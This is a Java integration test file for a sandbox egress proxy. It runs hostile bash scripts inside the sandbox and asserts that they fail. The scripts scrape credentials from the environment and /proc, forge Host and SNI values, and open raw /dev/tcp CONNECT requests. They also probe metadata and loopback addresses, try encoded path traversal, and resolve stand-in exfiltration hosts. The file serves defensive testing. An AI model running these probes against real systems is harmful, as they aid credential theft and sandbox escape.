package dev.sallyport;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.fixture.Command;
import dev.sallyport.fixture.Installation;
import dev.sallyport.fixture.WebServer;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/// What must not work for a hostile program in a real sandbox, with what does work beside it. The
/// hosts are the test's own.
class EgressAttackIT {
    private static final String API = "api.attack.example";
    private static final String TUNNEL = "tunnel.attack.example";
    private static final String PLAIN = "plain.attack.example";
    private static final String OTHER = "other.attack.example";
    private static final String KEY = "planted-key-" + "7f3a91c55e0b4d2284";

    private static Path root;
    private static WebServer web;
    private static Installation sallyport;

    private int before;

    @BeforeAll
    static void startEverything() throws IOException {
        root = Files.createTempDirectory("sp-attack");
        web = WebServer.start(root.resolve("web"), API, TUNNEL, PLAIN, OTHER);
        sallyport = Installation.bare(root.resolve("i"));
        Files.copy(web.caFile(), sallyport.home().resolve("web-ca.pem"));
        Files.copy(web.caFile(), sallyport.workspace().resolve("web-ca.pem"));
        sallyport.policy(
                """
                egress:
                  - host: %s
                    ports: [443]
                    methods: [GET, POST]
                    paths: ["/echo", "/hello.txt", "/posted/**", "/away"]
                    json-denied: ["type=web_fetch*", "mcp_servers=*"]
                    inject: {secret: api, header: x-api-key}
                    dial: "%s"
                    ca-file: web-ca.pem
                  - host: %s
                    ports: [443]
                    dial: "%s"
                  - host: %s
                    ports: [80]
                    dial: "%s"
                """
                        .formatted(API, web.dial(), TUNNEL, web.dial(), PLAIN, web.plainDial()));
        sallyport.sallyport("secret", "set", "api", "--host", API).input(KEY + "\n").run().ok();
    }

    @AfterAll
    static void stopEverything() {
        sallyport.close();
        web.close();
        Command.of("rm", "-rf", root.toString()).run().ok();
    }

    @BeforeEach
    void remember() {
        before = web.requests().size();
    }

    private List<String> arrived() {
        List<String> all = web.requests();
        return all.subList(before, all.size());
    }

    private static Command.Result inSandbox(String script) {
        return sallyport
                .sallyport(
                        "run", "--runtime", "bubblewrap", "--no-repo", "--", "bash", "-uc", script)
                .run();
    }

    @Test
    void P1_E14_theInjectedKeyReachesTheHostAndNeverTheSandbox() {
        Command.Result result =
                inSandbox(
                        """
                        curl -sS https://api.attack.example/hello.txt
                        curl -sS -i https://api.attack.example/echo
                        curl -sS -i -X TRACE https://api.attack.example/hello.txt
                        env; cat /proc/*/environ | tr '\\0' '\\n'; find /etc/sallyport -type f -exec cat {} + 2>/dev/null
                        """);
        assertThat(result.out()).startsWith("hello from " + API);
        assertThat(arrived()).anyMatch(line -> line.contains("/hello.txt") && line.contains(KEY));
        String base64 = Base64.getEncoder().encodeToString(KEY.getBytes(StandardCharsets.US_ASCII));
        assertThat(result.all()).doesNotContain(KEY).doesNotContain(base64);
        assertThat(result.out()).doesNotContain("PRIVATE KEY");
    }

    @Test
    void E15_credentialsOfTheSandboxGoNowhere() {
        inSandbox(
                """
                curl -sS -H 'authorization: Bearer mine' -H 'x-api-key: mine' -H 'cookie: a=mine' https://api.attack.example/hello.txt
                curl -sS -u mine:mine http://plain.attack.example/hello.txt
                """);
        assertThat(arrived()).hasSize(2).noneMatch(line -> line.contains("mine"));
    }

    /// The host answers only whole requests, and has one.
    @Test
    void E16_serverSideFetchesAreNotAskedFor() {
        Command.Result result =
                inSandbox(
                        """
                        post() { curl -sS -o /dev/null -w '%{http_code}\\n' -H 'content-type: application/json' -d "$1" https://api.attack.example/posted/x; }
                        post '{"tools":[{"type":"custom"}]}'
                        post '{"tools":[{"type":"web_fetch_20250910"}]}'
                        post '{"tools":[{"ty\\u0070e":"web_\\u0066etch"}]}'
                        post '{"mcp_servers":[]}'
                        curl -sS -o /dev/null -w '%{http_code}\\n' -d 'type=web_fetch' https://api.attack.example/posted/x
                        """);
        assertThat(result.out().lines()).containsExactly("200", "403", "403", "403", "403");
        assertThat(arrived()).filteredOn(line -> line.contains(" 200 ")).hasSize(1);
    }

    @Test
    void E10_pathsAndMethodsOutsideTheRuleAreRefused() {
        Command.Result result =
                inSandbox(
                        """
                        ask() { curl -sS --path-as-is -o /dev/null -w '%{http_code}\\n' "$@"; }
                        ask https://api.attack.example/hello.txt
                        ask https://api.attack.example/secret.txt
                        ask https://api.attack.example/posted/../secret.txt
                        ask https://api.attack.example/posted/%2e%2e/secret.txt
                        ask https://api.attack.example/posted/..%2fsecret.txt
                        ask https://api.attack.example//hello.txt
                        ask -X DELETE https://api.attack.example/hello.txt
                        """);
        assertThat(result.out().lines().toList())
                .startsWith("200")
                .hasSize(7)
                .filteredOn("200"::equals)
                .hasSize(1);
        assertThat(arrived()).hasSize(1);
    }

    @Test
    void E3_theNameInTheHelloAndInHostMustBeTheOneThatWasDialled() {
        Command.Result result =
                inSandbox(
                        """
                        address=$(getent ahostsv4 tunnel.attack.example | head -1 | cut -d' ' -f1)
                        ask() { curl -sS -m 60 --cacert web-ca.pem "$@"; }
                        ask https://tunnel.attack.example/hello.txt
                        ask --resolve other.attack.example:443:$address https://other.attack.example/hello.txt
                        ask --resolve api.attack.example:443:$address https://api.attack.example/hello.txt
                        ask -k https://$address/hello.txt
                        ask -x http://127.0.0.1:3128 --connect-to other.attack.example:443:tunnel.attack.example:443 https://other.attack.example/hello.txt
                        curl -sS -m 60 -H 'Host: other.attack.example' http://plain.attack.example/hello.txt
                        """);
        assertThat(result.out()).startsWith("hello from " + TUNNEL);
        assertThat(result.out()).contains("names-disagree");
        assertThat(arrived()).hasSize(1);
    }

    @Test
    void E4_E7_E8_otherPortsSpellingsAndAddressesAreRefused() {
        Command.Result result =
                inSandbox(
                        """
                        connect() { printf 'CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' "$1" "$1" | timeout 20 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -1 <&3'; }
                        connect tunnel.attack.example:443
                        echo --
                        for target in tunnel.attack.example:22 tunnel.attack.example:80 tunnel.attack.example.:443 127.0.0.1:443 2130706433:443 0x7f.1:443 0177.0.0.1:443 \\
                            '[::1]:443' '[::ffff:127.0.0.1]:443' 169.254.169.254:80 host.docker.internal:443 localhost:443 other.attack.example:443 xtunnel.attack.example:443; do
                            connect "$target"
                        done
                        """);
        String[] parts = result.out().split("--\n", -1);
        assertThat(parts).as(result.all()).hasSize(2);
        assertThat(parts[0]).contains("200");
        assertThat(parts[1].lines()).isNotEmpty().noneMatch(line -> line.contains(" 200"));
        assertThat(arrived()).isEmpty();
    }

    @Test
    void E5_E20_noOtherNameResolves() {
        Command.Result result =
                inSandbox(
                        """
                        getent ahostsv4 tunnel.attack.example | head -1 | cut -d. -f1
                        for name in other.attack.example host.docker.internal gateway.docker.internal metadata.google.internal x.tunnel.attack.example data.exfil.example; do
                            getent hosts $name && echo RESOLVED $name
                        done
                        """);
        assertThat(result.out().lines().findFirst()).contains("127");
        assertThat(result.out()).doesNotContain("RESOLVED");
    }

    @Test
    void aRedirectIsTheSandboxesToFollowAndLeadsNowhereElse() {
        Command.Result result =
                inSandbox(
                        "curl -sS -L -m 60 -o /dev/null -w '%{http_code}' https://api.attack.example/away");
        assertThat(result.all()).contains("302").contains("elsewhere.example");
        assertThat(arrived()).hasSize(1);
    }
}
